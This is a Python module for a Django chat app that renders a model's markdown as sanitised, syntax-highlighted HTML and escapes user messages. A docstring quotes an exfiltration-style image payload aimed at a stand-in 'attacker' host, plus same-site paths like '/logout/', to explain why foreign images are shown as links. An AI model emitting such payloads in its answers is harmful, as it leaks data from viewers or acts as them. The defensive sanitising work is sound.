"""Model output → safe HTML: CommonMark (plus tables and strikethrough) rendered on the server, then
sanitised with an allowlist. Raw HTML in the model's text is never passed through: markdown-it
escapes it, and nh3 removes anything outside the allowlist (scripts, event handlers, `javascript:`
URLs) from what markdown produced. Links open safely (`rel="noopener noreferrer"`). A user's message
is shown as typed (render_user_message): whitespace kept, fenced code blocks as code, all escaped.

Fenced code is highlighted on the server with Pygments (markdown-it's `highlight` option): the only
markup that adds is `<span class="…">` with Pygments' short token classes, which are all the
sanitiser lets through on a span, and only around tokens the stylesheet shows differently from the
code's own text (names and punctuation stay plain text: a third fewer bytes for code). After
sanitising, each code block is framed with its language label and a copy button (static/js/aptix.js
copies it); the frame is ours, not the model's, so it needs no allowance in the sanitiser. The
colours are static/css/pygments.css (light, and dark under prefers-color-scheme)."""

from __future__ import annotations

import re
from functools import lru_cache
from html import unescape
from typing import Any

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from pygments import format as pygments_format
from pygments import lex
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.styles import get_style_by_name
from pygments.token import STANDARD_TYPES, Token, _TokenType
from pygments.util import ClassNotFound

from tools.media import is_site_image

ALLOWED_TAGS = frozenset(
    {
        "p",
        "br",
        "hr",
        "strong",
        "em",
        "del",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "span",  # Pygments' token spans: only their classes (PYGMENTS_CLASSES), no other attribute
        "a",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto"})
# The classes Pygments' HTML formatter puts on its spans (`k`, `nf`, `s2`, …) and nothing else.
PYGMENTS_CLASSES = frozenset(css for css in STANDARD_TYPES.values() if css)
# Longer code is shown plain: highlighting is linear, but a streamed answer is rendered on every delta.
HIGHLIGHT_MAX_CHARS = 50_000
PLAIN_LABEL = "text"
# The Pygments styles static/css/pygments.css is generated from: light, and dark under the media query.
CODE_STYLES = ("default", "github-dark")
_LOOK = ("color", "bold", "italic", "underline", "bgcolor", "border")  # what the HTML stylesheet sets


def _looks_plain(ttype: _TokenType) -> bool:
    """Whether text of this token type looks, in every style of CODE_STYLES, like the code block's own
    text, so a span around it would change nothing: no rule (`n`, `p` in light), a rule that repeats
    the block's colour (`.highlight .n { color: #E6EDF3 }` in dark, as `.highlight` itself), or a
    colour on whitespace (`w`), which paints nothing."""
    for name in CODE_STYLES:
        style = get_style_by_name(name)
        look = style.style_for_token(ttype)
        text = style.style_for_token(Token.Text)
        keys = _LOOK[1:] if ttype in Token.Text.Whitespace else _LOOK
        if any(look[key] != text[key] for key in keys):
            return False
    return True


# Each standard token type → itself where it shows, else plain text (no span; runs merge).
_SHOWN = {ttype: ttype if not _looks_plain(ttype) else Token.Text for ttype in STANDARD_TYPES}


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight}).enable(
        ["table", "strikethrough"]
    )
    parser.add_render_rule("image", _image)
    # markdown-it compiles each rule chain on first use, and a chain read while another thread is
    # compiling it is empty or partial (Ruler.getRules): answers are rendered on the event loop and
    # on the render thread at once (agents/web/renders.py). Compile every chain before sharing.
    for ruler in (parser.core.ruler, parser.block.ruler, parser.inline.ruler, parser.inline.ruler2):
        ruler.getRules("")
    return parser


def _image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """Only the images this site serves render (a session's generated or MCP images); any other is a
    link. A model's `![x](https://attacker/?d=DATA)` must not make every viewer's browser fetch it (the
    CSP's img-src would refuse it anyway), nor may a same-site path the CSP allows: `![f](/logout/)`
    would sign every viewer out, `![f](/api/…)` would make requests as them."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if is_site_image(src):
        return renderer.image(tokens, idx, options, env)
    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt)}</a> (external image, not loaded)'


@lru_cache(maxsize=256)
def _lexer(lang: str) -> Lexer | None:
    try:
        return get_lexer_by_name(lang)
    except ClassNotFound:
        return None


@lru_cache(maxsize=128)  # a streamed answer renders its earlier code blocks again on every delta
def _highlight(code: str, lang: str, attrs: str) -> str:
    """markdown-it's `highlight` hook: the block's code as Pygments spans (markdown-it wraps them in
    `<pre><code class="language-…">`), or "" to leave it plain (no or an unknown language, too long)."""
    lexer = _lexer(lang.lower()) if lang else None
    if lexer is None or len(code) > HIGHLIGHT_MAX_CHARS:
        return ""
    tokens = ((_shown(ttype), value) for ttype, value in lex(code, lexer))
    return pygments_format(tokens, HtmlFormatter(nowrap=True))


def _shown(ttype: _TokenType) -> _TokenType:
    """The standard token type whose class shows `ttype` (a lexer's own subtype gets its nearest
    standard parent's, as the sanitiser's class allowlist would leave it), or plain text."""
    while ttype not in _SHOWN:
        ttype = ttype.parent
    return _SHOWN[ttype]


# Code blocks as the sanitiser writes them. Text is escaped, so in its output these are real tags.
_CODE_OPEN = re.compile(r'<pre><code(?: class="language-([^"]*)")?>')
# The line break markdown-it writes after each block tag: between blocks (or table cells, list items)
# a browser shows nothing for it, so it goes (bytes on every stream). Inside a <pre> there are no
# such tags (the code's text is escaped), and a break after inline markup (`</em>\n`) stays: it is a space.
_BLOCK_BREAK = re.compile(
    r"(</?(?:p|ul|ol|li|blockquote|h[1-6]|table|thead|tbody|tr|th|td)(?: [^>]*)?>|<hr>|<br>|</pre>)\n"
)


def _frame(match: re.Match[str]) -> str:
    lang = unescape(match.group(1) or "")  # as the sanitiser wrote the attribute: escaped
    lexer = _lexer(lang.lower()) if lang else None
    label = lexer.name if lexer is not None else (lang or PLAIN_LABEL)
    return (
        '<div class="code-block highlight"><div class="code-head">'
        f'<span class="code-lang">{escape(label)}</span>'
        '<button type="button" class="copy" data-copy="code" aria-label="Copy code">Copy</button>'
        f"</div>{match.group(0)}"
    )


def render_markdown(text: str | None) -> SafeString:
    """Sanitised HTML for a model's markdown answer; code blocks highlighted, labelled, copyable."""
    if not text:
        return mark_safe("")
    html = _parser().render(text)
    clean = nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        allowed_classes={"span": set(PYGMENTS_CLASSES)},
        url_schemes=set(URL_SCHEMES),
        link_rel="noopener noreferrer",
    )
    clean = _BLOCK_BREAK.sub(r"\1", clean)
    framed = _CODE_OPEN.sub(_frame, clean).replace("</code></pre>", "</code></pre></div>")
    return mark_safe(framed)  # sanitised above; the frame's only variable part (the label) is escaped


# A fenced code block of a user's message: ``` or ~~~ (three or more), an optional language, up to the
# closing fence of the same kind or the end of the message.
_FENCE = re.compile(
    r"^(?P<fence>`{3,}|~{3,})[ \t]*(?P<lang>[\w+#.-]*)[^\n]*\n(?P<code>.*?)(?:^(?P=fence)[ \t]*$\n?|\Z)", re.M | re.S
)


def render_user_message(text: str | None) -> SafeString:
    """A user's message as they typed it: line breaks and indentation kept (the text is shown with
    `white-space: pre-wrap`), fenced code blocks as code. Nothing else is interpreted; all is escaped."""
    if not text:
        return mark_safe("")
    parts: list[str] = []
    at = 0
    for match in _FENCE.finditer(text):
        parts.append(_plain(text[at : match.start()]))
        lang = match.group("lang")
        css = f' class="language-{escape(lang)}"' if lang else ""
        parts.append(f"<pre><code{css}>{escape(match.group('code').rstrip(chr(10)))}</code></pre>")
        at = match.end()
    parts.append(_plain(text[at:]))
    return mark_safe("".join(parts))


def _plain(text: str) -> str:
    text = text.strip("\n")
    return f'<span class="plain">{escape(text)}</span>' if text.strip() else ""


_INLINE_TEXT: dict[str, Any] = {
    "text": lambda c: c.content,
    "code_inline": lambda c: c.content,
    "softbreak": lambda c: " ",
    "hardbreak": lambda c: " ",
}


def plain_text(text: str | None) -> str:
    """A model's Markdown answer as the words a reader sees, on one line: no `**`, fences, `#` or table
    pipes (the sidebar's search snippets). Parsed, not rendered: nothing is highlighted or sanitised,
    and what comes out is escaped by the template like any text."""
    if not text:
        return ""
    words: list[str] = []
    for token in _parser().parse(text):
        if token.type == "inline":  # a paragraph, heading or cell: its pieces run on; a line break is a space
            words.append("".join(_INLINE_TEXT.get(c.type, lambda c: "")(c) for c in token.children or ()))
        elif token.type in ("fence", "code_block"):
            words.append(token.content)
    return " ".join(" ".join(words).split())
